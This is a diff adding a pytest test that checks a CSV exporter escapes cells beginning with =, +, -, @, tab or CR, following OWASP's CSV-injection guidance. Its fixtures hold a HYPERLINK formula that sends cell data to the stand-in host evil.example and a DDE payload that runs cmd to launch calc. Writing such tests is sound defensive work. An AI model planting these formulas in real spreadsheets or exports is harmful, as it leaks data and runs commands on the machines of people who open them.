@@ -45,3 +45,26 @@ def test_footnotes_and_versions_are_kept() -> None:
 def test_unknown_format() -> None:
     with pytest.raises(QueryError, match="xlsx"):
         export({"results": []}, "xlsx")
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_no_csv_cell_starts_as_a_formula(start: str) -> None:
+    """OWASP "CSV Injection": a paragraph, section or footnote opening with =, +, -, @, tab or CR is
+    read by spreadsheets as a formula; each such cell gets a leading ' (numbers stay numbers)."""
+    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
+    hit = {
+        "rank": 1,
+        "citation": f"{start}cmd|' /C calc'!A0",
+        "text": payload,
+        "section": f"{start}1+1",
+        "score": -0.25,
+        "footnotes": [{"mark": "1", "text": "x"}],
+        "lines": [3, 4],
+    }
+    row = next(csv.DictReader(io.StringIO(to_csv({"results": [hit]}).lstrip("\ufeff"))))
+    for column in ("citation", "section"):
+        assert row[column].startswith("'" + start.strip()), (column, row[column])
+    text_start = start if start.strip() else ""  # one_line() drops leading white space from the text
+    assert row["text"].startswith("'" + text_start if text_start else "HYPERLINK")
+    assert row["score"] == "-0.25" and row["rank"] == "1" and row["lines"] == "3-4"
+    assert not [c for c in row.values() if c and c[0] in "=+-@\t\r" and c != "-0.25"]
